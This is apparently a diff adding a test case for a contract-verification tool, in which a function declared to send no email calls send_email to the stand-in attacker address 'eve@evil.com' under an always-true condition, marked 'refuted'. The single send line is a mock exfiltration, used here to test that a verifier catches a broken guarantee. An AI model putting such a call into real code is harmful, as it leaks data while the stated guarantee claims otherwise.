@@ -1,0 +1,10 @@
+# refuted: "" in "x"
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    if "" in "x" and "x".startswith(""):
+        send_email("eve@evil.com", "x")
